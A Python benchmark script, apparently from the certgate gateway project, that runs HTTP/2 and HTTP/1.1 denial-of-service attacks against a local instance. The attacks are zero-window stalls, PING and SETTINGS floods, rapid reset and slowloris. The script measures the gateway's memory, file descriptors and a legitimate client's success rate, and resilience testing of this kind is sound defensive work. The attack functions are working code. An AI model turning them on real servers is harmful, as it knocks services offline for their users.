#!/usr/bin/env python3
"""Attacks on a running certgate, with its RSS and open file descriptors sampled from /proc
and a legitimate client (HTTP/1.1 keep-alive, a client certificate) counted throughout.
Driven by benches/hostile.sh, which starts the gateway; standard library only.

Prints one Markdown table row per attack."""
import argparse, os, socket, ssl, struct, threading, time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def hpack_get(path, authority="localhost"):
    # :method GET, :scheme https (static table), :authority and :path as literals.
    return (b"\x82\x87" + b"\x01" + bytes([len(authority)]) + authority.encode()
            + b"\x04" + bytes([len(path)]) + path.encode())


class Proc:
    def __init__(self, pid):
        self.pid = pid

    def rss_mib(self):
        with open(f"/proc/{self.pid}/status") as f:
            for line in f:
                if line.startswith("VmRSS:"):
                    return int(line.split()[1]) / 1024
        return 0.0

    def fds(self):
        return len(os.listdir(f"/proc/{self.pid}/fd"))


class Sampler(threading.Thread):
    def __init__(self, proc):
        super().__init__(daemon=True)
        self.proc, self.stop, self.peak_rss, self.peak_fds = proc, False, 0.0, 0

    def run(self):
        while not self.stop:
            self.peak_rss = max(self.peak_rss, self.proc.rss_mib())
            self.peak_fds = max(self.peak_fds, self.proc.fds())
            time.sleep(0.05)


class Legit(threading.Thread):
    """GET /app over one keep-alive connection with a client certificate (reconnects if
    the connection is closed), counting 200s and everything else."""

    def __init__(self, args):
        super().__init__(daemon=True)
        self.args, self.stop, self.ok, self.failed = args, False, 0, 0
        self.ctx = ssl.create_default_context(cafile=args.ca)
        self.ctx.load_cert_chain(args.cert, args.key)

    def run(self):
        sock = None
        while not self.stop:
            try:
                if sock is None:
                    raw = socket.create_connection((self.args.host, self.args.port), timeout=5)
                    sock = self.ctx.wrap_socket(raw, server_hostname="localhost")
                    buf = b""
                sock.sendall(b"GET /app HTTP/1.1\r\nHost: localhost\r\n\r\n")
                while b"\r\n\r\n" not in buf:
                    d = sock.recv(65536)
                    if not d:
                        raise ConnectionError("closed")
                    buf += d
                head, _, rest = buf.partition(b"\r\n\r\n")
                length = 0
                for line in head.split(b"\r\n")[1:]:
                    k, _, v = line.partition(b":")
                    if k.strip().lower() == b"content-length":
                        length = int(v)
                while len(rest) < length:
                    d = sock.recv(65536)
                    if not d:
                        raise ConnectionError("closed")
                    rest += d
                buf = rest[length:]
                if head.split(b" ")[1] == b"200":
                    self.ok += 1
                else:
                    self.failed += 1
                time.sleep(0.01)
            except Exception:
                self.failed += 1
                sock = None
                time.sleep(0.05)


def tls(args, alpn, cert=False):
    ctx = ssl.create_default_context(cafile=args.ca)
    ctx.set_alpn_protocols(alpn)
    if cert:
        ctx.load_cert_chain(args.cert, args.key)
    raw = socket.create_connection((args.host, args.port), timeout=10)
    return ctx.wrap_socket(raw, server_hostname="localhost")


def wait_closed(socks, limit):
    """Seconds until every socket is closed by the gateway (None if some outlive limit)."""
    start = time.monotonic()
    open_ = list(socks)
    while open_ and time.monotonic() - start < limit:
        still = []
        for s in open_:
            try:
                s.setblocking(False)
                d = s.recv(65536)
                if d:
                    still.append(s)
            except (BlockingIOError, ssl.SSLWantReadError):
                still.append(s)
            except Exception:
                pass
        open_ = still
        time.sleep(0.05)
    return None if open_ else time.monotonic() - start


def attack_h2_stall(args):
    """100 connections without a certificate: window 0, 256 streams for the CA file, never
    a WINDOW_UPDATE, PINGs answered by the kernel's buffer only."""
    socks = []
    for _ in range(100):
        s = tls(args, ["h2"])
        settings = frame(4, 0, 0, struct.pack(">HI", 4, 0) + struct.pack(">HI", 3, 256))
        out = PREFACE + settings
        for i in range(256):
            out += frame(1, 0x5, 1 + 2 * i, hpack_get("/.certgate/ca.pem"))
        s.sendall(out)
        socks.append(s)
    return socks


def attack_flood(args, unit):
    """One connection writing `unit` until the gateway closes it."""
    s = tls(args, ["h2"])
    s.sendall(PREFACE + frame(4, 0, 0))
    batch = unit * 256
    sent = 0
    s.settimeout(5)
    try:
        while sent < 2_000_000:
            s.sendall(batch)
            sent += 256
    except Exception:
        pass
    return [s], sent


def attack_rapid_reset(args):
    s = tls(args, ["h2"])
    out = PREFACE + frame(4, 0, 0)
    for i in range(20000):
        sid = 1 + 2 * i
        out += frame(1, 0x5, sid, hpack_get("/.certgate/ca.pem")) + frame(3, 0, sid, b"\0\0\0\x08")
    try:
        s.sendall(out)
    except Exception:
        pass
    return [s]


def attack_slowloris(args):
    socks = []
    for _ in range(200):
        s = tls(args, ["http/1.1"])
        s.sendall(b"GET /app HTTP/1.1\r\nHost: localhost\r\n")
        socks.append(s)
    # A header byte now and then; the head never completes.
    for _ in range(3):
        for s in socks:
            try:
                s.sendall(b"X-a: b\r\n")
            except Exception:
                pass
        time.sleep(1)
    return socks


def attack_h1_stopped_reader(args):
    """50 HTTP/1.1 clients pipelining 64 requests for a large response and never reading."""
    socks = []
    for _ in range(50):
        s = tls(args, ["http/1.1"])
        s.sendall(b"GET /.certgate/ca.pem HTTP/1.1\r\nHost: localhost\r\n\r\n" * 64)
        socks.append(s)
    return socks


def main():
    p = argparse.ArgumentParser()
    p.add_argument("--host", default="127.0.0.1")
    p.add_argument("--port", type=int, required=True)
    p.add_argument("--pid", type=int, required=True)
    p.add_argument("--ca", required=True)
    p.add_argument("--cert", required=True)
    p.add_argument("--key", required=True)
    p.add_argument("--limit", type=float, default=90)
    args = p.parse_args()
    proc = Proc(args.pid)
    attacks = [
        ("h2 window 0, 100 conns × 256 streams, no certificate", lambda: (attack_h2_stall(args), None)),
        ("h2 PING flood", lambda: attack_flood(args, frame(6, 0, 0, b"\0" * 8))),
        ("h2 SETTINGS flood", lambda: attack_flood(args, frame(4, 0, 0))),
        ("h2 rapid reset, 20,000 streams", lambda: (attack_rapid_reset(args), None)),
        ("HTTP/1.1 slowloris, 200 conns", lambda: (attack_slowloris(args), None)),
        ("HTTP/1.1 pipelined, never read, 50 conns", lambda: (attack_h1_stopped_reader(args), None)),
    ]
    print("| attack | RSS before → peak → after (MiB) | fds before → peak → after | frames written by the client | all closed after | legitimate client ok / failed |")
    print("|---|---|---|---:|---:|---|")
    for name, run in attacks:
        time.sleep(1)
        rss0, fd0 = proc.rss_mib(), proc.fds()
        sampler, legit = Sampler(proc), Legit(args)
        sampler.start(); legit.start()
        time.sleep(0.5)
        start = time.monotonic()
        socks, sent = run()
        closed = wait_closed(socks, args.limit)
        took = time.monotonic() - start
        time.sleep(1)
        legit.stop = True; legit.join()
        sampler.stop = True; sampler.join()
        for s in socks:
            try:
                s.close()
            except Exception:
                pass
        time.sleep(0.5)
        closed_s = f"{took:.1f} s" if closed is not None else f"open after {args.limit:.0f} s"
        print(f"| {name} | {rss0:.0f} → {sampler.peak_rss:.0f} → {proc.rss_mib():.0f} | "
              f"{fd0} → {sampler.peak_fds} → {proc.fds()} | {sent if sent is not None else '–'} | "
              f"{closed_s} | {legit.ok} / {legit.failed} |", flush=True)


if __name__ == "__main__":
    main()
